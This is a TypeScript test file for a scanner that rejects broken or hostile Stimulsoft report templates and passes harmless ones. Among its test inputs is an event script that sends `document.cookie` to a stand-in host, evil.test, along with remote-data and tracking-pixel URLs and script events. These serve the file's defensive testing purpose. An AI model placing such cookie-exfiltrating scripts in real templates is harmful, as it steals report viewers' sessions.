import { readFile } from 'node:fs/promises';

import { describe, expect, it } from 'vitest';

import { readMrt } from '@/extensions/stimulsoft/mrt-source';
import { templateFamilies, templateProblem } from '@/extensions/stimulsoft/scan-template';
import { readTemplateFile } from '@/extensions/stimulsoft/template-tree';

const FILE = 'reports.mrt';
const bytes = (text: string) => new TextEncoder().encode(text);

function problemOf(content: Uint8Array<ArrayBuffer>): string {
  try {
    readMrt(content, FILE);
  } catch (cause) {
    return cause instanceof Error ? cause.message : 'no error';
  }
  return 'harmless';
}

/** A JSON template with changes to its only page and its dictionary. */
function template(page: object, rest: object = {}): string {
  const first = { Ident: 'StiPage', Name: 'Page1', Guid: 'a1', ...page };
  return JSON.stringify({ ReportName: 'reports', ...rest, Pages: { 0: first } });
}

const xml = (inner: string) => `<?xml version="1.0" encoding="utf-8" standalone="yes"?>
<StiSerializer version="1.02" type="Net" application="StiReport">
  <!-- Diseño del laboratorio -->
  <Pages isList="true" count="1">
    <Page1 Ref="2" type="Page" isKey="true"><Name>Page1</Name>${inner}</Page1>
  </Pages>
</StiSerializer>`;

const text = (fields: object) => ({ Components: { 0: { Ident: 'StiText', ...fields } } });
const nested = (depth: number): string => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

const event = { Value: 'fetch("https://evil.test?" + document.cookie)' };
const dictionary = (Dictionary: object) => template({}, { Dictionary });
const subReport = (page: string) => ({
  Components: { 0: { Ident: 'StiSubReport', SubReportPageGuid: page } },
});
const INSIDE_EACH_OTHER = JSON.stringify({
  Pages: {
    0: { Name: 'One', Guid: 'a1', ...subReport('b2') },
    1: { Name: 'Two', Guid: 'b2', ...subReport('One') },
  },
});
const SERVICE = { Ident: 'StiJsonDatabase', PathData: 'https://evil.test/x.json' };
const REMOTE = 'https://evil.test/pixel.png';

it.each<[string, string | Uint8Array<ArrayBuffer>, string]>([
  ['an empty file', '', 'JSON, XML'],
  ['the host page instead', '<!doctype html><html><body></body></html>', 'JSON, XML'],
  ['JSON cut off', template({}).slice(0, -3), 'JSON, XML'],
  ['XML cut off', xml('').slice(0, -20), 'JSON, XML'],
  ['XML that closes another element', xml('<A></B>'), 'JSON, XML'],
  ['XML with a bare <', xml('<Text>resultado < 5</Text>'), 'JSON, XML'],
  ['a packed template', 'UEsDBBQAAAAIAA==', 'JSON, XML'],
  ['a list', '[]', 'JSON, XML'],
  ['no pages', '{"ReportName":"reports"}', 'Pages'],
  ['an empty list of pages', '{"Pages":{}}', 'Pages'],
  ['endless nesting', nested(5000), 'JSON, XML'],
  ['another encoding', Uint8Array.from([0x7b, 0xff, 0xfe, 0x7d]), 'UTF-8'],
  ['a file of six megabytes', new Uint8Array(6_000_000), '> 5000000 bytes'],
  ['a script on a text', template(text({ BeforePrintEvent: event })), 'BeforePrintEvent'],
  ['a script of the report', template({}, { BeginRenderEvent: event }), 'BeginRenderEvent'],
  ['a script in another case', template(text({ getvalueEVENT: event })), 'getvalueEVENT'],
  ['a script in XML', xml('<T><ClickEvent>alert(1)</ClickEvent></T>'), 'ClickEvent'],
  ['such a script as data', xml('<T><GetEvent><![CDATA[x()]]></GetEvent></T>'), 'GetEvent'],
  ['a JavaScript program', template({}, { ScriptLanguage: 'JS', Script: 'run()' }), 'Script'],
  ['a database', dictionary({ Databases: { 0: { Ident: 'StiSqlDatabase' } } }), 'StiSqlDatabase'],
  [
    'a database in XML',
    xml('<D type="Stimulsoft.Report.Dictionary.StiMySqlDatabase" isKey="true" />'),
    'StiMySqlDatabase',
  ],
  ['a query', dictionary({ DataSources: { 0: { Ident: 'StiSqlSource' } } }), 'StiSqlSource'],
  ['a service as data', dictionary({ Databases: { 0: SERVICE } }), 'PathData'],
  ['a remote picture', template(text({ ImageURL: { Value: REMOTE } })), 'ImageURL'],
  ['one with patient data', template(text({ ImageURL: { Value: '{order.imagen}' } })), 'ImageURL'],
  [
    'a packed report inside',
    template(text({ SubReportUrl: { Value: 'resource://inner' } })),
    'SubReportUrl',
  ],
  ['a page inside itself', template(subReport('a1')), 'SubReportPage'],
  ['two pages inside each other', INSIDE_EACH_OTHER, 'SubReportPage'],
])('a broken or hostile template is named, not drawn: %s', (_, content, detail) => {
  const file = typeof content === 'string' ? bytes(content) : content;
  expect(problemOf(file)).toBe(`${FILE}: invalid ${detail}`);
});

describe('a harmless template passes', () => {
  it.each<[string, string]>([
    ['events without a script', template(text({ BeforePrintEvent: { Value: ' ' } }))],
    [
      'sample data of the designer',
      dictionary({
        Databases: { 0: { ...SERVICE, PathData: String.raw`C:\informes\demo.json` } },
        DataSources: { 0: { Ident: 'StiDataTableSource', NameInSource: 'informes.order' } },
      }),
    ],
    ['a picture of the template', template(text({ ImageURL: { Value: 'resource://logo' } }))],
    ['an address in a text', template(text({ Text: { Value: 'https://laboratorio.test' } }))],
    ['the designer’s C# program', template({}, { ScriptLanguage: 'CSharp', Script: 'using X;' })],
    [
      'a sub-report',
      JSON.stringify({
        Pages: {
          0: { Name: 'One', Guid: 'a1', Components: { 0: { SubReportPageGuid: 'b2' } } },
          1: { Name: 'Two', Guid: 'b2' },
        },
      }),
    ],
    [
      'XML with accents and entities',
      xml('<Médico1 type="Text"><Text>A &lt; &#243; {order.orderNumber}</Text></Médico1>'),
    ],
    ['a byte order mark', `\ufeff${template({})}`],
  ])('%s', (_, content) => {
    expect(problemOf(bytes(content))).toBe('harmless');
  });

  it('is handed on without doubled keys that the scan did not see, and XML as it is written', () => {
    const doubled = '{"BeginRenderEvent":"run()","BeginRenderEvent":"","Pages":{"0":{"Name":"P"}}}';
    expect(readMrt(bytes(doubled), FILE).text).not.toContain('run()');
    const root = readTemplateFile(xml('<T><Text>A &lt; &#243; &amp;lt;</Text></T>'))?.root;
    expect(JSON.stringify(root)).toContain('A < ó &lt;');
  });
});

const component = (...parts: readonly object[]) =>
  template({ Components: Object.fromEntries(parts.entries()) });
const barCode = (font: string) => ({ Ident: 'StiBarCode', Font: font });

it.each<[string, string, readonly string[], readonly string[]]>([
  ['of its texts', component({ Font: 'Verdana;8;Bold;' }, { Font: ';;Bold;' }), ['Verdana'], []],
  ['in XML', xml('<T><Font>Times New Roman,8.25,Bold</Font></T>'), ['Times New Roman'], []],
  ['alone', component({ Font: 'Verdana' }), ['Verdana'], []],
  ['of a heading', component({ HeaderFont: 'Georgia;9;;' }), ['Georgia'], []],
  ['that are none', component({ AllowUseFont: false }, { AllowUseFont: 'False' }), [], []],
  ['of a bar code’s caption', component(barCode('Arial Narrow;8;;')), [], ['Arial Narrow']],
  ['of both', component(barCode('Verdana;8;;'), { Font: 'Verdana;8;;' }), ['Verdana'], []],
])('the typefaces of a template %s', (_case, source, texts, captions) => {
  const file = readTemplateFile(source);
  expect(file && templateFamilies(file.root)).toEqual({ texts: ['Arial', ...texts], captions });
});

it('nothing is found in the template that ships', async () => {
  const shipped = readMrt(new Uint8Array(await readFile('reports/reports.mrt')), FILE);
  expect(templateProblem(shipped.root)).toBeNull();
  expect(templateFamilies(shipped.root)).toEqual({ texts: ['Arial'], captions: [] });
});
